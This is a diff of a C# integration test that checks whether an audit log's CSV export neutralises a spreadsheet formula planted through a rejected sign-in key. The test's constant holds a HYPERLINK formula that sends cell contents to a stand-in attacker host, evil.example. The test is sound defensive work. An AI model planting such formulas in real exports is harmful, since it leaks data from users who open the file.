@@ -1,8 +1,6 @@
 using System.Text.Json.Nodes;
 using System.Text.RegularExpressions;
-using DataExchange.Core.Agencies;
 using DataExchange.IntegrationTests.Hosting;
-using Microsoft.Extensions.DependencyInjection;
 using NUnit.Framework;
 
 namespace DataExchange.IntegrationTests.Audit;
@@ -13,20 +11,15 @@ namespace DataExchange.IntegrationTests.Audit;
 /// export keeps the value exactly (its hash must still verify).
 /// </summary>
 [TestFixture, Category("Security")]
-public sealed partial class AuditCsvExportTests
+public sealed partial class AuditCsvExportTests() : ExchangeFixture("audit_csv")
 {
     const string Formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
-    ExchangeFactory _factory = null!;
-    ApiClient _admin = null!;
 
     [OneTimeSetUp]
     public async Task StartAsync()
     {
-        _factory = new ExchangeFactory(await TestCluster.CreateDatabaseAsync("audit_csv"));
-        var bootstrap = await _factory.Services.GetRequiredService<ApiKeyService>().BootstrapAdminAsync();
-        _admin = new ApiClient(_factory.CreateClient(), bootstrap!.Key);
         // The form as a browser posts it: antiforgery token and cookie from the page, then the planted key.
-        var browser = _factory.CreateClient();
+        var browser = Factory.CreateClient();
         var page = await browser.GetStringAsync("/console/signin");
         var token = AntiforgeryToken().Match(page).Groups[1].Value;
         using var form = new FormUrlEncodedContent(new Dictionary<string, string> { ["key"] = $"dx_{Formula}_secret", ["__RequestVerificationToken"] = token });
@@ -34,13 +27,10 @@ public sealed partial class AuditCsvExportTests
         Assert.That((int)refused.StatusCode, Is.EqualTo(401));
     }
 
-    [OneTimeTearDown]
-    public void Stop() => _factory.Dispose();
-
     [Test]
     public async Task CsvExport_PrefixesAFormulaPlantedThroughAClaimedKeyId()
     {
-        using var response = await _admin.GetRawAsync("/api/v1/audit/entries/export?format=csv&action=console-sign-in-refused");
+        using var response = await Admin.GetRawAsync("/api/v1/audit/entries/export?format=csv&action=console-sign-in-refused");
         var csv = await response.Content.ReadAsStringAsync();
         var rows = csv.Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
 
@@ -55,7 +45,7 @@ public sealed partial class AuditCsvExportTests
     [Test]
     public async Task NdjsonExport_KeepsThePlantedValueExactly()
     {
-        using var response = await _admin.GetRawAsync("/api/v1/audit/entries/export?format=ndjson&action=console-sign-in-refused");
+        using var response = await Admin.GetRawAsync("/api/v1/audit/entries/export?format=ndjson&action=console-sign-in-refused");
         var line = JsonNode.Parse((await response.Content.ReadAsStringAsync()).Split('\n', StringSplitOptions.RemoveEmptyEntries).Single())!;
 
         Assert.That(line["target"]!.GetValue<string>(), Is.EqualTo(Formula));
